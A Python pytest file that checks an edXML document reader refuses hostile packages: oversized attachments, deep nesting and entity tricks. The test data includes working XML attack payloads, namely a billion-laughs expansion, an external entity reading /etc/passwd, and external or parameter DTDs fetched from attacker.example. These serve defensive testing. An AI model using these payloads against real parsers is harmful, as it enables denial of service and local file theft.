"""Hostile edXML packages fail fast with a clear error: entity tricks, a 200 MB attachment,
deep nesting.  Bounds are generous (a shared 2-core machine); they catch a reader that
expands, reads whole or decodes what it should refuse.
"""

from __future__ import annotations

import io
import time
import tracemalloc
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest

from vnadmin import edxml
from vnadmin.edxml import PackageLimits
from vnadmin.errors import XMLDecodeError

QCVN = "http://www.mic.gov.vn/TBT/QCVN_102_2016"
MiB = 2**20
HEAD = (
    f'<edXML xmlns="{QCVN}"><edXMLEnvelope><edXMLHeader><MessageHeader>'
    "<From><OrganId>000.00.00.H41</OrganId><OrganName>SỞ NỘI VỤ</OrganName></From>"
    "<Subject>V/v gửi tài liệu</Subject>"
    "</MessageHeader></edXMLHeader></edXMLEnvelope>"
    "<AttachmentEncoded><Attachment><ContentId>cid:big</ContentId>"
    "<AttachmentName>big.pdf</AttachmentName><ContentTransferEncoded>"
).encode()
TAIL = b"</ContentTransferEncoded></Attachment></AttachmentEncoded></edXML>"


def bounded(
    call: Callable[[], object], *, seconds: float = 5.0, mib: float = 32.0
) -> XMLDecodeError:
    """Run ``call``, which must fail with XMLDecodeError within the time and Python memory."""
    tracemalloc.start()
    start = time.perf_counter()
    try:
        with pytest.raises(XMLDecodeError) as raised:
            call()
        elapsed = time.perf_counter() - start
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert elapsed < seconds, f"took {elapsed:.1f} s"
    assert peak < mib * MiB, f"Python memory peaked at {peak / MiB:.0f} MiB"
    return raised.value


@pytest.fixture(scope="module")
def big_package(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Path]:
    """A package holding a 200 MB base64 attachment, generated on the fly."""
    path = tmp_path_factory.mktemp("edxml") / "big.edxml"
    chunk = b"QUFB" * (MiB // 4)
    with open(path, "wb") as file:
        file.write(HEAD)
        for _ in range(200):
            file.write(chunk)
        file.write(TAIL)
    yield path
    path.unlink()


def test_200_mb_attachment_by_path(big_package: Path) -> None:
    error = bounded(lambda: edxml.loads(big_package))
    assert "larger than 67108864 bytes (PackageLimits.max_bytes)" in str(error)


def test_200_mb_attachment_from_a_stream(big_package: Path) -> None:
    with open(big_package, "rb") as file:  # no file size to look at: read up to the bound
        error = bounded(lambda: edxml.loads(file))
    assert "PackageLimits.max_bytes" in str(error)


def test_200_mb_attachment_under_a_raised_package_bound(big_package: Path) -> None:
    limits = PackageLimits(max_bytes=2**30, max_attachment=MiB)
    error = bounded(lambda: edxml.loads(big_package, limits=limits))
    assert "PackageLimits.max_attachment" in str(error)
    assert error.problems[0].line == 1


def test_attachment_over_the_limit_is_not_decoded(monkeypatch: pytest.MonkeyPatch) -> None:
    data = HEAD + b"QUFB" * (MiB // 2) + TAIL  # 2 MiB of base64, 1.5 MiB decoded
    decoded: list[object] = []

    def spy(*args: object, **kwargs: object) -> bytes:
        decoded.append(args)
        return b""

    monkeypatch.setattr("vnadmin.edxml.reader.base64.b64decode", spy)
    with pytest.raises(
        XMLDecodeError, match=r"'big\.pdf' holds about 1572864 bytes, more than 1048576"
    ):
        edxml.loads(data, limits=PackageLimits(max_attachment=MiB))
    assert decoded == []


def test_attachment_at_the_limit_is_read() -> None:
    data = HEAD + b"QUFB" * (MiB // 4) + TAIL  # exactly 1 MiB of base64, 768 KiB decoded
    package = edxml.loads(data, limits=PackageLimits(max_attachment=3 * MiB // 4))
    assert package.attachments[0].payload == b"AAA" * (MiB // 4)


BILLION_LAUGHS = f"""<?xml version="1.0"?>
<!DOCTYPE edXML [
  <!ENTITY a "ha">
  <!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">
  <!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">
  <!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;">
  <!ENTITY e "&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;">
  <!ENTITY f "&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;">
  <!ENTITY g "&f;&f;&f;&f;&f;&f;&f;&f;&f;&f;">
  <!ENTITY h "&g;&g;&g;&g;&g;&g;&g;&g;&g;&g;">
  <!ENTITY i "&h;&h;&h;&h;&h;&h;&h;&h;&h;&h;">
]>
<edXML xmlns="{QCVN}"><edXMLEnvelope><edXMLHeader><MessageHeader>
<Subject>&i;</Subject></MessageHeader></edXMLHeader></edXMLEnvelope></edXML>"""

EXTERNAL_ENTITY = f"""<?xml version="1.0"?>
<!DOCTYPE edXML [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<edXML xmlns="{QCVN}"><edXMLEnvelope><edXMLHeader><MessageHeader>
<Subject>&secret;</Subject></MessageHeader></edXMLHeader></edXMLEnvelope></edXML>"""

EXTERNAL_DTD = f"""<?xml version="1.0"?>
<!DOCTYPE edXML SYSTEM "http://attacker.example/edxml.dtd">
<edXML xmlns="{QCVN}"/>"""

PARAMETER_ENTITY = f"""<?xml version="1.0"?>
<!DOCTYPE edXML [<!ENTITY % remote SYSTEM "http://attacker.example/x.dtd"> %remote;]>
<edXML xmlns="{QCVN}"/>"""


@pytest.mark.parametrize(
    "document",
    [BILLION_LAUGHS, EXTERNAL_ENTITY, EXTERNAL_DTD, PARAMETER_ENTITY],
    ids=["billion-laughs", "external-entity", "external-dtd", "parameter-entity"],
)
def test_entity_tricks_are_refused(document: str) -> None:
    for read in (edxml.loads, edxml.loads_status):
        error = bounded(lambda read=read: read(document.encode()), seconds=2)  # type: ignore[misc]
        assert "DOCTYPE declaration is refused" in str(error)
        assert error.problems[0].line == 2


def test_undeclared_entity_is_refused() -> None:
    document = f'<edXML xmlns="{QCVN}"><edXMLEnvelope><edXMLHeader><MessageHeader><Subject>&secret;</Subject></MessageHeader></edXMLHeader></edXMLEnvelope></edXML>'
    error = bounded(lambda: edxml.loads(document.encode()), seconds=2)
    assert "entities other than the five predefined ones are refused" in str(error)


def nested(levels: int) -> bytes:
    return (
        HEAD.split(b"<AttachmentEncoded>")[0].replace(
            b"<Subject>", b"<Content>" + b"<x>" * levels + b"</x>" * levels + b"</Content><Subject>"
        )
        + b"</edXML>"
    )


def test_deep_nesting_beyond_the_parser_cap() -> None:
    error = bounded(lambda: edxml.loads(nested(100_000)), seconds=2)
    assert "nested" in str(error)
    assert "PackageLimits.max_depth" in str(error)


def test_deep_nesting_beyond_max_depth() -> None:
    error = bounded(lambda: edxml.loads(nested(100)), seconds=2)
    assert "nested more than 64 deep (PackageLimits.max_depth)" in str(error)
    assert error.problems[0].path.startswith(
        "/edXML/edXMLEnvelope/edXMLHeader/MessageHeader/Content/x"
    )


def test_text_over_max_text_is_refused() -> None:
    document = (
        HEAD.split(b"<AttachmentEncoded>")[0].replace(b"V/v g", b"V/v " + b"a" * 2000 + b" g")
        + b"</edXML>"
    )
    with pytest.raises(
        XMLDecodeError, match=r"longer than 1000 characters \(PackageLimits\.max_text\)"
    ):
        edxml.loads(document, limits=PackageLimits(max_text=1000))


def test_a_stream_is_read_in_chunks() -> None:
    with pytest.raises(XMLDecodeError, match=r"PackageLimits\.max_bytes"):
        edxml.loads(io.BytesIO(HEAD + b"QUFB" * 1000 + TAIL), limits=PackageLimits(max_bytes=2000))
